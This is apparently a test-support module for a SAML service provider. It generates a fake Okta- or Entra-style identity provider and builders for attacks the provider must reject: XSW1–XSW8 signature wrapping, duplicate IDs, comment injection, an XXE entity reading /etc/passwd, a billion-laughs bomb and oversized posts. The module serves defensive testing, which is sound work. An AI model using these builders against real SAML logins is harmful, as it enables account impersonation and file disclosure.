/**
 * A test SAML identity provider: its own RSA key and self-signed X.509 certificate generated at start
 * (plus an "attacker" key pair), metadata shaped like Okta's or Entra's, Responses signed with xml-crypto
 * the way those IdPs sign them, and builders for the attacks a service provider must refuse
 * (XSW1–XSW8 wrappings, ID collisions, comment injection, DTDs, oversized posts).
 * Test-only: nothing here is safe for production signing.
 */
import { createHash } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { createSelfSignedKeyPair, type SelfSignedKeyPair } from '../../src/saml/self-signed-certificate.js';

// ---------------------------------------------------------------------------------------------
// Keys and self-signed certificates: made by src/saml/self-signed-certificate.ts, which the service
// also uses for each SSO connection's SP signing key.

export type TestKeyPair = SelfSignedKeyPair;

/**
 * Generates an RSA-2048 key and a self-signed certificate (CN=commonName, sha256WithRSAEncryption).
 * @example const idpKey = createTestKeyPair('Test IdP');
 */
export function createTestKeyPair(
  commonName: string,
  validity: { notBefore: Date; notAfter: Date } = { notBefore: new Date('2024-01-01T00:00:00Z'), notAfter: new Date('2034-01-01T00:00:00Z') },
): TestKeyPair {
  return createSelfSignedKeyPair(commonName, validity);
}

// ---------------------------------------------------------------------------------------------
// The identity provider.

export type IdpStyle = 'okta' | 'entra';

const NS = {
  protocol: 'urn:oasis:names:tc:SAML:2.0:protocol',
  assertion: 'urn:oasis:names:tc:SAML:2.0:assertion',
  metadata: 'urn:oasis:names:tc:SAML:2.0:metadata',
  dsig: 'http://www.w3.org/2000/09/xmldsig#',
};
const SUCCESS = 'urn:oasis:names:tc:SAML:2.0:status:Success';
const EMAIL_FORMAT = 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress';
const ALGORITHMS = {
  sha256: { signature: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', digest: 'http://www.w3.org/2001/04/xmlenc#sha256' },
  sha1: { signature: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1', digest: 'http://www.w3.org/2000/09/xmldsig#sha1' },
} as const;
const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';

export interface TestResponseOptions {
  /** IssueInstant; the default validity window is built around it. */
  now: Date;
  audience: string;
  recipient: string;
  nameId: string;
  /** Response Destination; null leaves it out. Default: recipient. */
  destination?: string | null;
  /** Puts InResponseTo on the Response and the SubjectConfirmationData. Default: none (IdP-initiated). */
  inResponseTo?: string | null;
  /** Overrides for one of the two places. */
  responseInResponseTo?: string | null;
  subjectInResponseTo?: string | null;
  /** Assertion Issuer; default the IdP's entity ID. */
  issuer?: string;
  /** Response Issuer; null leaves it out; default: issuer. */
  responseIssuer?: string | null;
  nameIdFormat?: string;
  sessionIndex?: string;
  attributes?: Record<string, string[]>;
  /** Conditions NotBefore/NotOnOrAfter; default now-5min / now+5min (Okta) or now+1h (Entra). */
  notBefore?: Date;
  notOnOrAfter?: Date;
  /** SubjectConfirmationData NotOnOrAfter; default now+5min. */
  subjectNotOnOrAfter?: Date;
  /** A non-Success status: the Response then carries no assertion. */
  status?: { code: string; subCode?: string; message?: string };
  signResponse?: boolean;
  signAssertion?: boolean;
  algorithm?: 'sha256' | 'sha1';
  key?: 'idp' | 'attacker' | TestKeyPair;
  /** Put the signing certificate in ds:KeyInfo (Okta and Entra do). Default true. */
  includeKeyInfo?: boolean;
  responseId?: string;
  assertionId?: string;
}

export interface TestIdp {
  entityId: string;
  ssoUrl: string;
  style: IdpStyle;
  key: TestKeyPair;
  attackerKey: TestKeyPair;
  metadataXml(options?: { extraCertificates?: string[]; wantAuthnRequestsSigned?: boolean }): string;
  /** The signed Response as XML. */
  responseXml(options: TestResponseOptions): string;
  /** The signed Response, base64 as the browser posts it. */
  response(options: TestResponseOptions): string;
}

export interface TestIdpOptions {
  style?: IdpStyle;
  entityId?: string;
  ssoUrl?: string;
  /** Reuse keys across IdPs (key generation takes ~100 ms). */
  key?: TestKeyPair;
  attackerKey?: TestKeyPair;
}

const TENANT = '72f988bf-86f1-41af-91ab-2d7cd011db47';

/** @example const idp = createTestIdp({ style: 'okta' }); const b64 = idp.response({ now, audience, recipient, nameId }); */
export function createTestIdp(options: TestIdpOptions = {}): TestIdp {
  const style = options.style ?? 'okta';
  const entityId = options.entityId ?? (style === 'okta' ? 'http://www.okta.com/exk1fcia6d6EMsf331d8' : `https://sts.windows.net/${TENANT}/`);
  const ssoUrl =
    options.ssoUrl ??
    (style === 'okta'
      ? 'https://dev-123456.okta.com/app/dev-123456_scimitar_1/exk1fcia6d6EMsf331d8/sso/saml'
      : `https://login.microsoftonline.com/${TENANT}/saml2`);
  const key = options.key ?? createTestKeyPair(style === 'okta' ? 'dev-123456' : 'Microsoft Azure Federated SSO Certificate');
  const attackerKey = options.attackerKey ?? createTestKeyPair('attacker');
  let counter = 0;
  const nextId = () => {
    counter += 1;
    const hex = createHash('sha256').update(`${entityId}:${counter}`).digest('hex');
    return style === 'okta' ? `id${BigInt(`0x${hex.slice(0, 15)}`).toString()}` : `_${hex.slice(0, 8)}-${hex.slice(8, 12)}-${hex.slice(12, 16)}-${hex.slice(16, 20)}-${hex.slice(20, 32)}`;
  };

  const idp: TestIdp = {
    entityId,
    ssoUrl,
    style,
    key,
    attackerKey,
    metadataXml: (m = {}) =>
      style === 'okta'
        ? oktaMetadata(entityId, ssoUrl, [key.certificateBase64, ...(m.extraCertificates ?? [])], m.wantAuthnRequestsSigned ?? false)
        : entraMetadata(entityId, ssoUrl, [key.certificateBase64, ...(m.extraCertificates ?? [])], nextId()),
    responseXml(o) {
      const responseId = o.responseId ?? nextId();
      const assertionId = o.assertionId ?? nextId();
      let xml = buildResponseXml(style, entityId, o, responseId, assertionId, nextId());
      const signingKey = o.key === undefined || o.key === 'idp' ? key : o.key === 'attacker' ? attackerKey : o.key;
      const signing = { key: signingKey, algorithm: o.algorithm ?? 'sha256', includeKeyInfo: o.includeKeyInfo ?? true, prefix: style === 'okta' ? 'ds' : undefined };
      const hasAssertion = !o.status || o.status.code === SUCCESS;
      if ((o.signAssertion ?? true) && hasAssertion) xml = signEnveloped(xml, assertionId, signing);
      if (o.signResponse ?? false) xml = signEnveloped(xml, responseId, signing);
      return xml;
    },
    response: (o) => toBase64(idp.responseXml(o)),
  };
  return idp;
}

export const toBase64 = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64');

function signEnveloped(
  xml: string,
  id: string,
  s: { key: TestKeyPair; algorithm: 'sha256' | 'sha1'; includeKeyInfo: boolean; prefix: string | undefined },
): string {
  const alg = ALGORITHMS[s.algorithm];
  const sig = new SignedXml({
    privateKey: s.key.privateKeyPem,
    ...(s.includeKeyInfo ? { publicCert: s.key.certificatePem } : {}),
    signatureAlgorithm: alg.signature,
    canonicalizationAlgorithm: EXC_C14N,
  });
  sig.addReference({ xpath: `//*[@ID='${id}']`, digestAlgorithm: alg.digest, transforms: [ENVELOPED, EXC_C14N] });
  // Schema order: the Signature follows the Issuer of the element it signs.
  sig.computeSignature(xml, {
    ...(s.prefix ? { prefix: s.prefix } : {}),
    location: { reference: `//*[@ID='${id}']/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return sig.getSignedXml();
}

const esc = (t: string) => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const iso = (d: Date) => d.toISOString();

function buildResponseXml(style: IdpStyle, entityId: string, o: TestResponseOptions, responseId: string, assertionId: string, sessionId: string): string {
  const now = o.now.getTime();
  const notBefore = o.notBefore ?? new Date(now - 5 * 60_000);
  const notOnOrAfter = o.notOnOrAfter ?? new Date(now + (style === 'okta' ? 5 : 60) * 60_000);
  const subjectNotOnOrAfter = o.subjectNotOnOrAfter ?? new Date(now + 5 * 60_000);
  const respIrt = o.responseInResponseTo !== undefined ? o.responseInResponseTo : (o.inResponseTo ?? null);
  const subjIrt = o.subjectInResponseTo !== undefined ? o.subjectInResponseTo : (o.inResponseTo ?? null);
  const destination = o.destination === undefined ? o.recipient : o.destination;
  const issuer = o.issuer ?? entityId;
  const responseIssuer = o.responseIssuer === undefined ? issuer : o.responseIssuer;
  const p = style === 'okta' ? { p: 'saml2p:', a: 'saml2:' } : { p: 'samlp:', a: '' };
  const pDecl = style === 'okta' ? `xmlns:saml2p="${NS.protocol}"` : `xmlns:samlp="${NS.protocol}"`;
  const aDecl = style === 'okta' ? `xmlns:saml2="${NS.assertion}"` : `xmlns="${NS.assertion}"`;
  const issuerFormat = style === 'okta' ? ' Format="urn:oasis:names:tc:SAML:2.0:nameid-format:entity"' : '';

  const status = o.status ?? { code: SUCCESS };
  const statusXml =
    `<${p.p}Status><${p.p}StatusCode Value="${esc(status.code)}">` +
    (status.subCode ? `<${p.p}StatusCode Value="${esc(status.subCode)}"/>` : '') +
    `</${p.p}StatusCode>` +
    (status.message ? `<${p.p}StatusMessage>${esc(status.message)}</${p.p}StatusMessage>` : '') +
    `</${p.p}Status>`;

  const attrs = Object.entries(o.attributes ?? {})
    .map(([name, values]) => {
      const vals = values
        .map((v) =>
          style === 'okta'
            ? `<saml2:AttributeValue xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">${esc(v)}</saml2:AttributeValue>`
            : `<AttributeValue>${esc(v)}</AttributeValue>`,
        )
        .join('');
      const nameFormat = style === 'okta' ? ' NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:unspecified"' : '';
      return `<${p.a}Attribute Name="${esc(name)}"${nameFormat}>${vals}</${p.a}Attribute>`;
    })
    .join('');
  const attributeStatement = attrs ? `<${p.a}AttributeStatement>${attrs}</${p.a}AttributeStatement>` : '';
  const authnStatement =
    `<${p.a}AuthnStatement AuthnInstant="${iso(o.now)}" SessionIndex="${esc(o.sessionIndex ?? sessionId)}">` +
    `<${p.a}AuthnContext><${p.a}AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</${p.a}AuthnContextClassRef></${p.a}AuthnContext>` +
    `</${p.a}AuthnStatement>`;

  const assertion =
    `<${p.a}Assertion ${aDecl} ID="${assertionId}" IssueInstant="${iso(o.now)}" Version="2.0"${style === 'okta' ? ' xmlns:xs="http://www.w3.org/2001/XMLSchema"' : ''}>` +
    `<${p.a}Issuer${issuerFormat}>${esc(issuer)}</${p.a}Issuer>` +
    `<${p.a}Subject><${p.a}NameID Format="${esc(o.nameIdFormat ?? EMAIL_FORMAT)}">${esc(o.nameId)}</${p.a}NameID>` +
    `<${p.a}SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">` +
    `<${p.a}SubjectConfirmationData${subjIrt ? ` InResponseTo="${esc(subjIrt)}"` : ''} NotOnOrAfter="${iso(subjectNotOnOrAfter)}" Recipient="${esc(o.recipient)}"/>` +
    `</${p.a}SubjectConfirmation></${p.a}Subject>` +
    `<${p.a}Conditions NotBefore="${iso(notBefore)}" NotOnOrAfter="${iso(notOnOrAfter)}">` +
    `<${p.a}AudienceRestriction><${p.a}Audience>${esc(o.audience)}</${p.a}Audience></${p.a}AudienceRestriction></${p.a}Conditions>` +
    (style === 'okta' ? authnStatement + attributeStatement : attributeStatement + authnStatement) +
    `</${p.a}Assertion>`;

  const responseIssuerXml =
    responseIssuer === null
      ? ''
      : style === 'okta'
        ? `<saml2:Issuer xmlns:saml2="${NS.assertion}"${issuerFormat}>${esc(responseIssuer)}</saml2:Issuer>`
        : `<Issuer xmlns="${NS.assertion}">${esc(responseIssuer)}</Issuer>`;
  return (
    `<${p.p}Response ${pDecl}${destination !== null ? ` Destination="${esc(destination)}"` : ''} ID="${responseId}"` +
    `${respIrt ? ` InResponseTo="${esc(respIrt)}"` : ''} IssueInstant="${iso(o.now)}" Version="2.0">` +
    responseIssuerXml +
    statusXml +
    (status.code === SUCCESS ? assertion : '') +
    `</${p.p}Response>`
  );
}

// ---------------------------------------------------------------------------------------------
// Metadata as Okta and Entra publish it.

function oktaMetadata(entityId: string, ssoUrl: string, certs: string[], wantSigned: boolean): string {
  const keys = certs
    .map(
      (c) =>
        `<md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="${NS.dsig}"><ds:X509Data><ds:X509Certificate>${c}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`,
    )
    .join('');
  return (
    `<?xml version="1.0" encoding="UTF-8"?><md:EntityDescriptor xmlns:md="${NS.metadata}" entityID="${esc(entityId)}">` +
    `<md:IDPSSODescriptor WantAuthnRequestsSigned="${wantSigned}" protocolSupportEnumeration="${NS.protocol}">` +
    keys +
    `<md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified</md:NameIDFormat>` +
    `<md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat>` +
    `<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="${esc(ssoUrl)}"/>` +
    `<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="${esc(ssoUrl)}"/>` +
    `</md:IDPSSODescriptor></md:EntityDescriptor>`
  );
}

/** Entra's FederationMetadata.xml: WS-Federation RoleDescriptors first, then the SAML IDPSSODescriptor. */
function entraMetadata(entityId: string, ssoUrl: string, certs: string[], id: string): string {
  // Entra publishes each certificate on one line; wrapping it at 64 characters exercises normalization.
  const keyInfo = (c: string) =>
    `<KeyDescriptor use="signing"><KeyInfo xmlns="${NS.dsig}"><X509Data><X509Certificate>\n${c.match(/.{1,64}/g)!.join('\n')}\n</X509Certificate></X509Data></KeyInfo></KeyDescriptor>`;
  const keys = certs.map(keyInfo).join('');
  return (
    `<?xml version="1.0" encoding="utf-8"?>` +
    `<EntityDescriptor ID="${id}" entityID="${esc(entityId)}" xmlns="${NS.metadata}">` +
    `<RoleDescriptor xsi:type="fed:SecurityTokenServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/wsfed/federation/200706" ` +
    `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:fed="http://docs.oasis-open.org/wsfed/federation/200706">` +
    keys +
    `<fed:PassiveRequestorEndpoint><EndpointReference xmlns="http://www.w3.org/2005/08/addressing"><Address>https://login.microsoftonline.com/${TENANT}/wsfed</Address></EndpointReference></fed:PassiveRequestorEndpoint>` +
    `</RoleDescriptor>` +
    `<IDPSSODescriptor protocolSupportEnumeration="${NS.protocol}">` +
    keys +
    `<SingleLogoutService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="${esc(ssoUrl)}"/>` +
    `<SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="${esc(ssoUrl)}"/>` +
    `<SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="${esc(ssoUrl)}"/>` +
    `</IDPSSODescriptor></EntityDescriptor>`
  );
}

// ---------------------------------------------------------------------------------------------
// Attacks on a legitimately signed Response (XML in, XML out). Names follow SAML Raider's XSW1–XSW8
// (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012).

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
const serialize = (node: Node): string => new XMLSerializer().serializeToString(node);
const childNS = (parent: Element, ns: string, local: string): Element | undefined => {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === local) return n as Element;
  }
  return undefined;
};
const descNS = (root: Document | Element, ns: string, local: string): Element[] => Array.from(root.getElementsByTagNameNS(ns, local));
const setText = (el: Element, text: string) => {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument.createTextNode(text));
};
const parts = (doc: Document) => {
  const response = doc.documentElement;
  const assertion = childNS(response, NS.assertion, 'Assertion');
  if (!assertion) throw new Error('the response has no assertion to attack');
  return { response, assertion };
};
/** A copy of the assertion with another NameID and ID, no Signature: what the attacker wants accepted. */
const evilCopy = (assertion: Element, nameId: string, keepSignature = false): Element => {
  const evil = assertion.cloneNode(true) as Element;
  evil.setAttribute('ID', `_evil${assertion.getAttribute('ID')}`);
  if (!keepSignature) {
    const sig = childNS(evil, NS.dsig, 'Signature');
    if (sig) evil.removeChild(sig);
  }
  setText(descNS(evil, NS.assertion, 'NameID')[0]!, nameId);
  return evil;
};
const withoutSignature = (el: Element): Element => {
  const copy = el.cloneNode(true) as Element;
  const sig = childNS(copy, NS.dsig, 'Signature');
  if (sig) copy.removeChild(sig);
  return copy;
};
const insertAfterIssuer = (parent: Element, node: Node) => {
  const issuer = childNS(parent, NS.assertion, 'Issuer');
  parent.insertBefore(node, issuer ? issuer.nextSibling : parent.firstChild);
};

export const attacks = {
  /** XSW1 (Response signed): an evil Response whose Signature holds the original signed Response as a child. */
  xsw1(xml: string, nameId: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const original = withoutSignature(response);
    const sig = childNS(response, NS.dsig, 'Signature')!;
    response.setAttribute('ID', `_evil${response.getAttribute('ID')}`);
    response.replaceChild(evilCopy(assertion, nameId), assertion);
    sig.appendChild(original);
    return serialize(doc);
  },
  /** XSW2 (Response signed): like XSW1 but the original Response sits before the (now detached) Signature. */
  xsw2(xml: string, nameId: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const original = withoutSignature(response);
    const sig = childNS(response, NS.dsig, 'Signature')!;
    response.setAttribute('ID', `_evil${response.getAttribute('ID')}`);
    response.replaceChild(evilCopy(assertion, nameId), assertion);
    response.insertBefore(original, sig);
    return serialize(doc);
  },
  /** XSW3 (Assertion signed): an unsigned evil assertion placed before the signed one. */
  xsw3(xml: string, nameId: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    response.insertBefore(evilCopy(assertion, nameId), assertion);
    return serialize(doc);
  },
  /** XSW4: the signed assertion becomes a child of the unsigned evil assertion. */
  xsw4(xml: string, nameId: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const evil = evilCopy(assertion, nameId);
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return serialize(doc);
  },
  /** XSW5: the evil copy keeps the original Signature; the original assertion (unsigned) goes to the end. */
  xsw5(xml: string, nameId: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const evil = evilCopy(assertion, nameId, true);
    response.replaceChild(evil, assertion);
    response.appendChild(withoutSignature(assertion));
    return serialize(doc);
  },
  /** XSW6: the evil copy keeps the Signature, and the original assertion is placed inside that Signature. */
  xsw6(xml: string, nameId: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const evil = evilCopy(assertion, nameId, true);
    response.replaceChild(evil, assertion);
    childNS(evil, NS.dsig, 'Signature')!.appendChild(withoutSignature(assertion));
    return serialize(doc);
  },
  /** XSW7: the signed assertion moved into samlp:Extensions; an unsigned evil assertion takes its place. */
  xsw7(xml: string, nameId: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const extensions = doc.createElementNS(NS.protocol, `${response.prefix ? `${response.prefix}:` : ''}Extensions`);
    insertAfterIssuer(response, extensions);
    response.replaceChild(evilCopy(assertion, nameId), assertion);
    extensions.appendChild(assertion);
    return serialize(doc);
  },
  /** XSW8: the evil copy keeps the Signature, which gets a ds:Object holding the original assertion. */
  xsw8(xml: string, nameId: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const evil = evilCopy(assertion, nameId, true);
    response.replaceChild(evil, assertion);
    const sig = childNS(evil, NS.dsig, 'Signature')!;
    const object = doc.createElementNS(NS.dsig, `${sig.prefix ? `${sig.prefix}:` : ''}Object`);
    object.appendChild(withoutSignature(assertion));
    sig.appendChild(object);
    return serialize(doc);
  },
  /** The signed assertion moved into samlp:Extensions with nothing in its place. */
  assertionOnlyInExtensions(xml: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const extensions = doc.createElementNS(NS.protocol, `${response.prefix ? `${response.prefix}:` : ''}Extensions`);
    insertAfterIssuer(response, extensions);
    extensions.appendChild(assertion);
    return serialize(doc);
  },
  /** Another element carrying the signed assertion's ID, so a look-up by ID may find the wrong one. */
  duplicateId(xml: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const extensions = doc.createElementNS(NS.protocol, `${response.prefix ? `${response.prefix}:` : ''}Extensions`);
    const decoy = doc.createElementNS('urn:example:decoy', 'x:Data');
    decoy.setAttribute('ID', assertion.getAttribute('ID')!);
    decoy.appendChild(doc.createTextNode('decoy'));
    extensions.appendChild(decoy);
    insertAfterIssuer(response, extensions);
    return serialize(doc);
  },
  /** Moves the Response's Signature (which references the Response) into the Assertion. */
  signatureOnOtherElement(xml: string): string {
    const doc = parse(xml);
    const { response, assertion } = parts(doc);
    const sig = childNS(response, NS.dsig, 'Signature')!;
    response.removeChild(sig);
    const own = childNS(assertion, NS.dsig, 'Signature');
    if (own) assertion.removeChild(own);
    insertAfterIssuer(assertion, sig);
    return serialize(doc);
  },
  /** Removes every ds:Signature. */
  stripSignatures(xml: string): string {
    const doc = parse(xml);
    for (const sig of descNS(doc, NS.dsig, 'Signature')) sig.parentNode!.removeChild(sig);
    return serialize(doc);
  },
  /** Replaces text after signing (for example the NameID), keeping the Signature. */
  tamper(xml: string, from: string, to: string): string {
    if (!xml.includes(from)) throw new Error(`tamper: "${from}" not found`);
    return xml.split(from).join(to);
  },
  /**
   * Comment injection (CVE-2017-11427 family): `user@example.com.evil.com` signed by the IdP becomes
   * `user@example.com<!---->.evil.com`; exclusive c14n drops comments, so the signature still verifies.
   */
  injectComment(xml: string, signedText: string, at: number): string {
    return attacks.tamper(xml, `>${signedText}<`, `>${signedText.slice(0, at)}<!---->${signedText.slice(at)}<`);
  },
  /** Prepends a DOCTYPE: 'xxe' (external entity used in the NameID), 'billion-laughs', or 'after-comment'. */
  withDoctype(xml: string, kind: 'xxe' | 'billion-laughs' | 'after-comment'): string {
    const body = xml.replace(/^<\?xml[^>]*\?>/, '');
    const rootName = /^<([A-Za-z0-9_:.-]+)/.exec(body)![1]!;
    if (kind === 'xxe') {
      return `<?xml version="1.0"?><!DOCTYPE ${rootName} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${body.replace(/(<(?:saml2:)?NameID[^>]*>)[^<]*/, '$1&xxe;')}`;
    }
    if (kind === 'billion-laughs') {
      const lols = ['<!ENTITY lol "lol">'];
      for (let i = 1; i <= 9; i++) lols.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
      return `<?xml version="1.0"?><!DOCTYPE ${rootName} [${lols.join('')}]>${body.replace(/(<(?:saml2:)?NameID[^>]*>)[^<]*/, '$1&lol9;')}`;
    }
    return `<!-- a harmless comment --><!DOCTYPE ${rootName}>${body}`;
  },
  /** Pads the Response with a comment until its base64 form is larger than `bytes`. */
  oversized(xml: string, bytes: number): string {
    return xml.replace(/<\/([A-Za-z0-9]+:)?Response>$/, (end) => `<!--${'x'.repeat(Math.ceil(bytes * 0.75) + 16)}-->${end}`);
  },
};

// ---------------------------------------------------------------------------------------------
// A shared scenario: one SP connection, a fixed clock and a pending request, so tests read as the case they test.

export const SAML_TEST_NOW = new Date('2025-03-01T12:00:00.000Z');
export const SAML_TEST_SP = {
  entityId: 'https://app.example.com/saml/dir_01HV3K8Q',
  acsUrl: 'https://app.example.com/saml/dir_01HV3K8Q/acs',
} as const;
export const SAML_TEST_REQUEST_ID = '_req_5f1c2a9e0b7d4c3a';

/** Options for a legitimate, solicited response to SAML_TEST_SP at SAML_TEST_NOW; override what the test is about. */
export const samlResponseOptions = (overrides: Partial<TestResponseOptions> = {}): TestResponseOptions => ({
  now: SAML_TEST_NOW,
  audience: SAML_TEST_SP.entityId,
  recipient: SAML_TEST_SP.acsUrl,
  nameId: 'ada@example.com',
  inResponseTo: SAML_TEST_REQUEST_ID,
  ...overrides,
});
